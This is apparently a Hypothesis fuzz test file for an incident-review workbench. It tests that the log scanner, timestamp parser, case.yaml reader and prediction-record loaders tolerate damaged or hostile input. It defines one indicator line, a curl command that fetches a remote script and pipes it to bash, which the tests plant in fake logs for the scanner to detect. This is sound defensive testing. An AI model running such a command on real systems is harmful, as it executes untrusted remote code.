"""Properties of the text parsers: the log scanner on bytes (plain and gzip, whole or cut), timestamp parsing,
``case.yaml`` reading and the prediction records (JSON lines and CSV).

Documented outcomes only: the scanner never raises on content (damage becomes a warning and ``complete=False``),
``parse_timestamp`` returns a UTC datetime or None, ``Case.open`` returns a case or raises EvidenceError (a bad
``case.yaml`` is refused by name or becomes warnings), the predictions loader loads or raises MalformedEvidence.
No output text is invalid Unicode; matched lines carry no raw terminal escape.
"""

from __future__ import annotations

import csv
import gzip
import io
import json
import tempfile
from datetime import UTC, datetime, timedelta, timezone
from pathlib import Path

import pandas as pd
import yaml
from hypothesis import example, given
from hypothesis import strategies as st

from tests.fuzz.strategies import EVIDENCE_BYTES, JSON_VALUES, SCALARS, assert_valid_unicode, hostile_lines
from workbench.case import Case
from workbench.errors import EvidenceError
from workbench.evidence import LoadContext
from workbench.evidence.predictions import PredictionsLoader
from workbench.logscan.engine import Scanner
from workbench.timeparse import parse_timestamp

SCANNER = Scanner()
INDICATOR = b"curl -sSL http://203.0.113.7/p.sh | bash"


# ------------------------------------------------------------------------------------------------ log scanner
@st.composite
def logs(draw) -> bytes:
    data = draw(st.one_of(hostile_lines(), st.binary(max_size=1024)))
    if draw(st.booleans()):  # an indicator somewhere, perhaps inside a long line or after escapes
        at = draw(st.integers(min_value=0, max_value=len(data)))
        prefix = draw(st.sampled_from([b"", b"\x1b[31m", b"##[group]Build\n", b"\x00", b"\r"]))
        data = data[:at] + prefix + INDICATOR + b"\n" + data[at:]
    return data


def _check_scan(scan, data: bytes) -> None:
    assert_valid_unicode(scan.matches, "matches")
    assert_valid_unicode([str(w) for w in scan.warnings], "warnings")
    for match in scan.matches:
        assert match.line >= 1
        assert "\x1b" not in match.text and "\x9b" not in match.text, match.text[:200]


@given(logs())
@example(b"\xed\xa0\x80 " + INDICATOR + b"\n")
@example(b"##[group]a\n" + b"x" * 70_000 + b" " + INDICATOR + b"\n")
def test_the_log_scanner_never_raises_on_bytes(data):
    scan = SCANNER.scan_stream(io.BytesIO(data), "fuzz.log")
    _check_scan(scan, data)


@given(logs(), st.integers(min_value=0, max_value=4096), st.booleans())
def test_the_log_scanner_never_raises_on_damaged_gzip(data, cut, trailing_garbage):
    packed = gzip.compress(data, mtime=0)
    packed = packed[: max(2, len(packed) - cut)] + (b"\x00garbage" if trailing_garbage else b"")
    with tempfile.TemporaryDirectory(prefix="wb-fuzz-") as tmp:
        path = Path(tmp) / "build.log.gz"
        path.write_bytes(packed)
        scan = SCANNER.scan_path(path, "logs/build.log.gz")
    _check_scan(scan, data)


# ------------------------------------------------------------------------------------------------ timestamps
TIMES = st.one_of(
    SCALARS,
    st.integers(),
    st.datetimes(timezones=st.one_of(st.none(), st.just(UTC), st.builds(
        lambda m: timezone(timedelta(minutes=m)), st.integers(min_value=-1439, max_value=1439)))),
    st.from_regex(r"\A-?\d{1,6}-\d{1,3}-\d{1,3}([T ]\d{1,3}:\d{1,3}(:\d{1,3}(\.\d{0,12})?)?)?(Z|[+-]\d{2}:?\d{2})?\Z"),
)  # fmt: skip


@given(TIMES, st.sampled_from([UTC, timezone(timedelta(hours=14)), timezone(timedelta(hours=-12))]))
@example(10**400, UTC)  # an epoch integer no float can hold
@example(float("nan"), UTC)
@example("9999-12-31T23:59:59+14:00", UTC)
def test_parse_timestamp_gives_utc_or_none(value, naive_tz):
    ts = parse_timestamp(value, naive_tz=naive_tz)
    assert ts is None or (isinstance(ts, datetime) and ts.utcoffset() == timedelta(0))


# ------------------------------------------------------------------------------------------------ case.yaml
META_KEYS = st.sampled_from(
    ["incident_id", "title", "severity", "commander", "affected_models", "detection_time", "detection_method",
     "naive_timezone", "suspect_model", "reference_model", "public_key", "timeline", "network_allowlist", "comms",
     "notes"]
)  # fmt: skip
TIMELINE = st.lists(st.dictionaries(st.sampled_from(["time", "message", "severity", "source", "tags"]), JSON_VALUES,
                                    max_size=5), max_size=4)  # fmt: skip


@st.composite
def case_yaml(draw) -> bytes:
    if draw(st.integers(min_value=0, max_value=4)) == 0:
        return draw(EVIDENCE_BYTES)
    doc = draw(st.dictionaries(META_KEYS, st.one_of(JSON_VALUES, TIMELINE), max_size=8))
    try:
        text = yaml.safe_dump(doc, allow_unicode=draw(st.booleans()))
    except (yaml.YAMLError, ValueError):
        text = "{}"
    return text.encode("utf-8", "surrogatepass")


@given(case_yaml())
@example(b'title: "\\ud800 and \\x1b]0;x\\x07"\n')
@example(b"timeline:\n  - time: 1" + b"0" * 400 + b"\n    message: big\n")
def test_case_yaml_is_read_or_refused_by_name(data):
    from workbench.timeline.sources import analyst_events

    with tempfile.TemporaryDirectory(prefix="wb-fuzz-") as tmp:
        root = Path(tmp) / "case"
        root.mkdir()
        (root / "case.yaml").write_bytes(data)
        try:
            case = Case.open(root)
        except EvidenceError as exc:
            assert "case.yaml" in str(exc)
            return
        assert_valid_unicode(case.meta.to_dict(), "meta")
        assert_valid_unicode([str(w) for w in case.warnings], "warnings")
        warnings: list = []
        events = analyst_events(case, warnings)  # case.yaml timeline entries become events
    assert_valid_unicode([e.to_dict() for e in events], "events")
    assert_valid_unicode([str(w) for w in warnings], "timeline warnings")


# ------------------------------------------------------------------------------------------------ predictions
ROW = st.fixed_dictionaries(
    {"timestamp": st.one_of(TIMES.map(lambda v: v.isoformat() if isinstance(v, datetime) else v), SCALARS)},
    optional={"label": SCALARS, "predicted_class": SCALARS, "confidence": SCALARS, "request_id": SCALARS,
              "model_version": SCALARS},
)  # fmt: skip


def _csv(rows: list[dict]) -> str:
    buf = io.StringIO()
    fields = sorted({k for r in rows for k in r}) or ["timestamp"]
    writer = csv.DictWriter(buf, fieldnames=fields, extrasaction="ignore")
    writer.writeheader()
    for row in rows:
        writer.writerow({k: "" if v is None else v for k, v in row.items()})
    return buf.getvalue()


@given(st.lists(ROW, max_size=30), st.sampled_from(["predictions.jsonl", "predictions.csv"]))
def test_prediction_records_load_or_are_refused(rows, name):
    if name.endswith(".csv"):
        text = _csv(rows)
    else:
        text = "".join(json.dumps(r, default=str, allow_nan=True) + "\n" for r in rows)
    loader = PredictionsLoader()
    with tempfile.TemporaryDirectory(prefix="wb-fuzz-") as tmp:
        path = Path(tmp) / name
        path.write_bytes(text.encode("utf-8", "surrogatepass"))
        try:
            loaded = loader.load(path, LoadContext(relpath=f"predictions/{name}"))
        except EvidenceError:
            return
    frame = loaded.frame
    assert list(frame.columns) == list(loader.columns) and len(frame) <= len(rows)
    assert (frame["line"].dropna() >= 1).all()
    stamps = frame["timestamp"].dropna()
    assert str(frame["timestamp"].dtype) == "datetime64[ns, UTC]"
    assert ((stamps >= pd.Timestamp("1678-01-01", tz="UTC")) & (stamps < pd.Timestamp("2262-01-01", tz="UTC"))).all()
    assert_valid_unicode(frame, "frame")
    assert_valid_unicode([str(w) for w in loaded.warnings], "warnings")
